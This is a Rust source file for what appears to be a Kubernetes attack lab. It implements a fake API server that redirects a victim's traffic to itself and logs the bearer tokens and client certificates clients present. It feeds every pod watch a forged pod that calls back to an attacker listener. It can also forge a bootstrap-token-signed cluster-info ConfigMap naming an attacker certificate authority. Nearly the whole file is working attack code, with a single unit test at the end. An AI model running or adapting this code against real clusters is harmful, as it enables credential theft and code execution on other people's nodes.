//! A fake API server on the wire: any certificate, and one pod that nobody asked for.
//!
//! Whoever verifies gets no further than a handshake. Whoever does not is asked for everything it would show a
//! real one: what stands in `Authorization` is noted, and every watch of pods is told of a forged one. A client
//! certificate is seen and cannot be passed on; the forged pod needs no credential at all. Everything else is
//! answered 503, so that a victim waits and goes on as before when it is let go. With a bootstrap token in
//! ATTACKER_TOKEN it has an authority of its own and says so in a cluster-info that the token signs.

use std::convert::Infallible;
use std::net::{IpAddr, Ipv4Addr, SocketAddrV4};

use anyhow::Context;
use axum::body::Body;
use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_URL_SAFE_NO_PAD};
use clap::Args;
use futures_util::StreamExt;
use http::{Method, Request, Response, StatusCode};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use super::kubelet::told_to_end;
use super::redirect::{redirect_from, standing};
use super::say;
use crate::net::{Identity, Peer, Protocols, Server, ServingCert};
use crate::pki::{self, Facts};

#[derive(Debug, Args)]
pub struct FakeHub {
    /// Whose place it takes: ADDRESS:PORT
    victim: SocketAddrV4,
    /// Only for who dials from this address
    #[arg(long)]
    from: Ipv4Addr,
    /// The forged pod; `${phone}` in it becomes the attacker's ADDRESS:PORT, where it can call home
    #[arg(long)]
    pod: String,
}

impl FakeHub {
    pub async fn run(self) -> anyhow::Result<()> {
        let listener = crate::net::bind("0.0.0.0:0".parse()?).await?;
        let here = SocketAddrV4::new(standing(), listener.local_addr()?.port());
        let phone = crate::net::bind("0.0.0.0:0".parse()?).await?;
        let home = format!("{}:{}", crate::lab::plan::BALANCER, phone.local_addr()?.port());
        let pod: Value = serde_json::from_str(&self.pod.replace("${phone}", &home))?;
        let (issued, info) = match std::env::var("ATTACKER_TOKEN") {
            Ok(token) => forged_cluster(&token)?,
            Err(_) => (pki::self_signed_serving("kubernetes")?, Value::Null),
        };
        let identity = Identity { cert_pem: issued.cert_pem.into(), key_pem: issued.key_pem.into() };
        let server = Server::new(ServingCert::new(&identity)?, Protocols::H2AndH1, "fake")?;
        let stop = CancellationToken::new();
        let over = stop.clone();
        let service = tower::service_fn(move |request: Request<hyper::body::Incoming>| {
            let discovers = request.uri().path().ends_with("/cluster-info") && !info.is_null();
            let mut answer = answer(&request, &pod, &over);
            if discovers {
                answer = json_response(StatusCode::OK, &info);
            }
            async move { Ok::<_, Infallible>(answer) }
        });
        let redirected = redirect_from(self.from, self.victim, here)?;
        say(&json!({"event": "ready", "at": here}));
        tokio::spawn(calls_home(phone));
        let ended = async {
            told_to_end().await;
            // Open watches hear that the forged pod is gone.
            stop.cancel();
        };
        tokio::join!(ended, server.serve(listener, service, stop.clone()));
        drop(redirected);
        Ok(())
    }
}

/// A certificate for the real address from an authority nobody heard of, and the ConfigMap that names it.
fn forged_cluster(token: &str) -> anyhow::Result<(pki::Issued, Value)> {
    let (id, secret) = token.split_once('.').context("a bootstrap token is ID.SECRET")?;
    let authority = pki::Authority::new("kubernetes")?;
    let leaf = pki::LeafSpec::server("kube-apiserver", &["kubernetes"], &[IpAddr::V4(standing())]);
    let cluster = crate::client::Cluster {
        server: crate::lab::plan::endpoint(),
        certificate_authority_data: Some(BASE64_STANDARD.encode(authority.cert_pem())),
        ..Default::default()
    };
    let user = crate::client::User::default();
    let kubeconfig = crate::client::Kubeconfig::single("", "", "", cluster, user).to_yaml();
    let header = BASE64_URL_SAFE_NO_PAD.encode(json!({"alg": "HS256", "kid": id}).to_string());
    let signed = format!("{header}.{}", BASE64_URL_SAFE_NO_PAD.encode(&kubeconfig));
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, secret.as_bytes());
    let tag = BASE64_URL_SAFE_NO_PAD.encode(ring::hmac::sign(&key, signed.as_bytes()));
    let info = json!({
        "apiVersion": "v1", "kind": "ConfigMap",
        "metadata": {"name": "cluster-info", "namespace": "kube-public"},
        "data": {"kubeconfig": kubeconfig, format!("jws-kubeconfig-{id}"): format!("{header}..{tag}")},
    });
    Ok((authority.issue(&leaf)?, info))
}

fn answer(request: &Request<hyper::body::Incoming>, pod: &Value, over: &CancellationToken) -> Response<Body> {
    let peer = request.extensions().get::<Peer>();
    let client = peer.and_then(|peer| Facts::from_der(peer.certificates.first()?).ok()).map(|facts| facts.cn);
    let bearer = request.headers().get(http::header::AUTHORIZATION).and_then(|value| value.to_str().ok());
    let (method, uri) = (request.method().as_str(), request.uri());
    let path = uri.path_and_query().map_or("/", |path| path.as_str());
    say(&json!({"event": "request", "method": method, "path": path, "client": client, "bearer": bearer}));
    let watches = path.contains("watch=true") || path.contains("watch=1");
    match (request.method(), watches) {
        (&Method::GET, true) => {
            watch(uri.path().ends_with("/pods").then(|| at_revision(pod, path)), over.clone())
        }
        (&Method::POST, _) if path.contains("/binding") => json_response(
            StatusCode::CREATED,
            &json!({"kind": "Status", "apiVersion": "v1", "status": "Success"}),
        ),
        _ => json_response(
            StatusCode::SERVICE_UNAVAILABLE,
            &json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 503,
                "reason": "ServiceUnavailable", "message": "wait"}),
        ),
    }
}

/// The pod at the revision the victim asks from: when it is let go it asks the real API server from there on,
/// and has missed nothing.
fn at_revision(pod: &Value, path: &str) -> Value {
    let mut pod = pod.clone();
    let asked = path.split(['?', '&']).find_map(|word| word.strip_prefix("resourceVersion="));
    if let Some(revision) = asked.filter(|revision| !matches!(*revision, "" | "0")) {
        pod["metadata"]["resourceVersion"] = json!(revision);
    }
    pod
}

/// A watch that tells of the pod, and in the end that it is gone.
fn watch(pod: Option<Value>, over: CancellationToken) -> Response<Body> {
    let line = |kind: &str, pod: &Value| format!("{}\n", json!({"type": kind, "object": pod}));
    let first = pod.as_ref().map(|pod| line("ADDED", pod));
    let last = pod.as_ref().map(|pod| line("DELETED", pod));
    let begin = futures_util::stream::iter(first);
    let end = futures_util::stream::once(async move {
        over.cancelled().await;
        last.unwrap_or_default()
    });
    let lines = begin.chain(end).map(Ok::<_, Infallible>);
    let mut response = Response::new(Body::from_stream(lines));
    response.headers_mut().insert("content-type", http::HeaderValue::from_static("application/json"));
    response
}

fn json_response(status: StatusCode, body: &Value) -> Response<Body> {
    let mut response = Response::new(Body::from(body.to_string()));
    *response.status_mut() = status;
    response.headers_mut().insert("content-type", http::HeaderValue::from_static("application/json"));
    response
}

/// Plain HTTP for the forged pod: that it called is the proof that it ran.
async fn calls_home(listener: tokio::net::TcpListener) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    while let Ok((mut stream, from)) = listener.accept().await {
        let mut buffer = vec![0; 4096];
        let read = stream.read(&mut buffer).await.unwrap_or(0);
        let text = String::from_utf8_lossy(&buffer[..read]).into_owned();
        let first = text.lines().next().unwrap_or_default();
        say(&json!({"event": "phoned", "from": from, "line": first}));
        let _ =
            stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok").await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_forged_pod_is_as_old_as_what_the_victim_knows() {
        let pod = json!({"metadata": {"resourceVersion": "1"}});
        let revision = |path| at_revision(&pod, path)["metadata"]["resourceVersion"].clone();
        assert_eq!(revision("/api/v1/pods?watch=true&resourceVersion=812&timeoutSeconds=290"), "812");
        assert_eq!(revision("/api/v1/pods?watch=true&resourceVersion=0"), "1");
    }
}
